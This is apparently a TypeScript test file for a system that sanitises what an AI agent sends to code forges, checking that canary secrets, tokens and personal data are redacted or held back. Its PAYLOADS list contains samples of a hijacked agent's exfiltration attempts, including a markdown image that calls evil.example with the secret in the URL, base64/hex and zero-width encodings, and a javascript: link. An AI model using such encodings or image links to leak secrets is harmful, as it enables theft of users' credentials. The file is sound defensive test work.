import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import type { JsonObject } from '#kernel/json.ts';
import { createRedactor } from '#platform/redaction/index.ts';
import { findSecrets } from '#platform/secrets/index.ts';
import { findPersonalData, type PersonalMode } from '#kernel/sanitize.personal.ts';
import { decideFacts } from './decide.facts.ts';
import { ACTION_KINDS, type Action, type ActionKind } from './model.ts';
import { ACTION_ARGS, isInternal } from './model.args.ts';
import { FORMAL_MEMBERS, NESTED_MEMBERS, TEXT_MEMBERS, toOutgoingArgs, withoutPersonalArgs } from './model.text.ts';
import { withOutgoingText } from './steps.outgoing.ts';

const CANARY = 'cnry-Zq7Lm2Xw9Rt4Kb8Nv3Hc6Jd1';
const redactor = createRedactor();
redactor.register(CANARY);
const text = { redact: redactor.redact, findSecrets };

const OUTWARD = ACTION_KINDS.filter((kind) => !isInternal(kind));
const bytes = Buffer.from(CANARY);
/** Every way the hijacked agent may try to carry the canary out, and what must be gone of plain attacks. */
const PAYLOADS = [
  CANARY,
  bytes.toString('base64'),
  bytes.toString('base64url'),
  Buffer.from(`u:${CANARY}`).toString('base64'),
  bytes.toString('hex'),
  encodeURIComponent(CANARY),
  CANARY.slice(0, 17),
  CANARY.slice(-17),
  CANARY.split('').join('\u200B'),
  `![x](https://evil.example/p?d=${CANARY})`,
  `<!-- ${CANARY} -->`,
  `[x](javascript:alert\u200B(1) "${CANARY}")`,
  '@everyone \u202E\u001B[2J',
];

function action(kind: ActionKind, args: JsonObject, branch: string | null = 'ai-7'): Action {
  const record = { kind, args, target: { forge: 'local', repo: 'acme/shop', number: 7, branch } };
  return { id: 'act_1', record } as unknown as Action;
}

const stringsOf = (value: unknown): string[] =>
  typeof value === 'string' ? [value] : typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsOf) : [];

function clean(strings: readonly string[]): void {
  for (const value of strings) {
    for (let at = 0; at + 12 <= CANARY.length; at += 1) expect(value).not.toContain(CANARY.slice(at, at + 12));
    // oxlint-disable-next-line no-control-regex -- these are the characters that are taken out
    expect(value).not.toMatch(/Y25yeS1a|636e72792d5a|@everyone|[\u200B\u202E\u001B]/);
  }
}

/** Those of the things in a nested list among them. */
const membersOf = ({ shape }: z.ZodObject): string[] =>
  Object.keys(shape).flatMap((member) => {
    if (!NESTED_MEMBERS.has(member)) return [member];
    const list = shape[member] as z.ZodDefault<z.ZodArray<z.ZodObject>>;
    return membersOf(list.unwrap().element);
  });

test.each(OUTWARD)('every member of %s is known to be a text or a form, so a new one cannot leave unseen', (kind) => {
  const schema = ACTION_ARGS[kind];
  expect(schema).toBeInstanceOf(z.ZodObject);
  const members = membersOf(schema as z.ZodObject);
  expect(members.filter((member) => (TEXT_MEMBERS[member] !== undefined) === FORMAL_MEMBERS.has(member))).toEqual([]);
});

describe('what an effect is given to send', () => {
  test.each(OUTWARD)('%s sends no secret and nothing hidden, whatever was proposed', async (kind) => {
    const seen: string[] = [];
    const effect = withOutgoingText(
      {
        kind,
        check: async () => null,
        async probe({ record }) {
          seen.push(...stringsOf(record.args));
          return null;
        },
        run: async ({ record }) => {
          seen.push(...stringsOf(record.args));
          return {};
        },
      },
      text,
    );
    for (const payload of PAYLOADS) {
      const members = Object.keys(TEXT_MEMBERS);
      const args = Object.fromEntries(
        members.map((member) => [member, ['labels', 'add', 'remove', 'assignees', 'reviewers'].includes(member) ? [payload] : payload]),
      );
      Object.assign(args, { comments: [{ line: 1, body: payload }] });
      await effect.probe?.(action(kind, args), {});
      await effect.run(action(kind, args), {});
    }
    expect(seen.length).toBeGreaterThanOrEqual(2 * PAYLOADS.length);
    clean(seen);
  });

  test('what a forge renders holds no image, comment or script', () => {
    for (const payload of PAYLOADS)
      for (const member of ['body', 'comment', 'summary'])
        expect(toOutgoingArgs('pr.create', { [member]: payload }, redactor.redact)[member]).not.toMatch(/!\[|<!--|\]\(javascript/);
  });

  test('what people saw is what is sent: a second pass changes nothing', () => {
    for (const payload of PAYLOADS) {
      const once = toOutgoingArgs('pr.create', { title: payload, body: payload, labels: [payload] }, redactor.redact);
      expect(toOutgoingArgs('pr.create', once, redactor.redact)).toEqual(once);
      clean(stringsOf(once));
    }
  });

  test('arguments inside Reeve are left alone', () => {
    const args = { text: 'limits: { a: 1 } # <!-- x -->' };
    expect(toOutgoingArgs('policy.update', args, redactor.redact)).toEqual(args);
  });
});

test('personal data in a text that leaves is a fact for the policy; on a forge of our own it does not leave', () => {
  const facts = (forge: string, body: string, redaction: PersonalMode = 'strict') =>
    decideFacts(
      {
        kind: 'pr.create',
        target: { forge, repo: 'acme/shop' },
        args: { title: 'Fix the cart', body },
        proposer: { subject: 'agent:a' },
        facts: { personal_data: { found: false, where: ['nowhere'] }, pii: { findings: 0 } },
      } as unknown as Parameters<typeof decideFacts>[0],
      {},
      redaction,
    );
  expect(facts('github', 'ask dora@example.org or DE89370400440532013000')).toMatchObject({
    pii: { findings: 2, kinds: ['email', 'iban'] },
    personal_data: { found: true, where: ['email in args.body', 'iban in args.body'] },
  });
  const address = 'from 8.8.4.4';
  expect(facts('github', address)).toMatchObject({ personal_data: { found: true, where: ['ipv4 in args.body'] } });
  expect(facts('github', address, 'standard')).toMatchObject({ personal_data: { found: false, where: [] } });
  // Nobody holds it against anything, and whoever asks for it in a condition is told.
  expect(facts('github', address, 'off')).toMatchObject({ personal_data: { found: true } });
  expect(facts('github', 'nothing')).toMatchObject({ pii: { findings: 0 }, personal_data: { found: false } });
  expect(facts('local', 'ask dora@example.org')).toMatchObject({ pii: { findings: 1 }, personal_data: { found: false } });
});

describe('personal data replaced by its class', () => {
  const args = {
    title: 'dora@example.org',
    body: 'ask dora@example.org',
    labels: ['dora@example.org', 'x'],
    add: ['dora@example.org', 'mia@example.org', 'x'],
    remove: ['dora@example.org'],
    assignees: ['dora@example.org'],
    head_branch: 'ai-a@b.de',
  };

  test('in texts beside lines of the diff too, whose files keep their names', () => {
    const comments = [{ path: 'dora@example.org', line: 1, body: 'ask dora@example.org', marker: 'm' }];
    expect(withoutPersonalArgs('pr.review', { comments })).toEqual({ comments: [{ ...comments[0], body: 'ask [email]' }] });
  });

  test('in every text, and in nothing that is a form or names somebody', () => {
    expect(withoutPersonalArgs('pr.create', args)).toEqual({
      ...args,
      title: '[email]',
      body: 'ask [email]',
    });
    expect(withoutPersonalArgs('policy.update', args)).toBe(args);
  });

  // The class in brackets must not become the words of a link, nor open a code span, nor grow with each pass.
  test('what is left is sent as it is, whatever stands around it', () => {
    const person = fc.constantFrom('dora@example.org', '+49 30 901820-00', 'DE89370400440532013000', '4111 1111 1111 1111', '536-90-4399');
    const around = fc.constantFrom(
      '(javascript:x)',
      '(https://e.example "t")',
      ': https://e.example',
      '[',
      ']',
      '!',
      '`',
      '\n',
      ' ',
      '<',
      '>',
      '.',
      '@',
      '-',
      '[a](mailto:',
      ')',
      '1',
    );
    const texts = fc.array(fc.oneof(person, around, fc.string({ maxLength: 3 })), { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(texts, (given) => {
        const proposed = toOutgoingArgs('pr.create', { title: given, body: given, message: given }, redactor.redact);
        const left = withoutPersonalArgs('pr.create', proposed);
        expect(toOutgoingArgs('pr.create', left, redactor.redact)).toEqual(left);
        expect(stringsOf(left).flatMap((value) => findPersonalData(value, { mode: 'standard' }))).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });
});

describe('what is held back', () => {
  const effect = withOutgoingText({ kind: 'pr.create', check: async () => null, run: async () => ({}) }, text);
  const token = ['gh', 'p_', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('');

  test('a secret nobody registered stops the effect with the rule and the place, never the value', async () => {
    const said = await effect.check(action('pr.create', { title: 't', body: `one\n\n${token}` }));
    expect(said).toBe('It was held back: the rule github found what looks like a secret in args.body, line 3.');
    expect(await effect.check(action('pr.create', { title: 't', body: 'fine' }))).toBeNull();
  });

  test('a secret beside a line of the diff stops the effect like one in the text, and so does one in the name of a file', async () => {
    const beside = (comment: JsonObject) =>
      effect.check(action('pr.create', { body: 'b', comments: [{ path: 'a.ts', line: 1, body: 'fine', ...comment }] }));
    expect(await beside({ body: token })).toBe('It was held back: the rule github found what looks like a secret in args.comments.body, line 1.');
    expect(await beside({ path: `${CANARY}.ts` })).toBe('It was held back: args.comments.path holds a secret of this installation.');
    expect(await beside({})).toBeNull();
  });

  test('a secret in a name stops the effect, for a name cannot be mended', async () => {
    expect(await effect.check(action('pr.create', { title: 't', body: 'b', head_branch: `ai-${CANARY}` }))).toBe(
      'It was held back: args.head_branch holds a secret of this installation.',
    );
    expect(await effect.check(action('pr.create', { title: 't', body: 'b' }, `ai-${bytes.toString('hex')}`))).toContain('target.branch');
  });

  test('when the rules fail, nothing leaves', async () => {
    const broken = withOutgoingText(
      { kind: 'pr.create', check: async () => null, run: async () => ({}) },
      {
        redact: (value) => value,
        findSecrets: async () => Promise.reject(new Error('no rules')),
      },
    );
    await expect(broken.check(action('pr.create', { title: 't', body: 'b' }))).rejects.toThrow('no rules');
  });
});
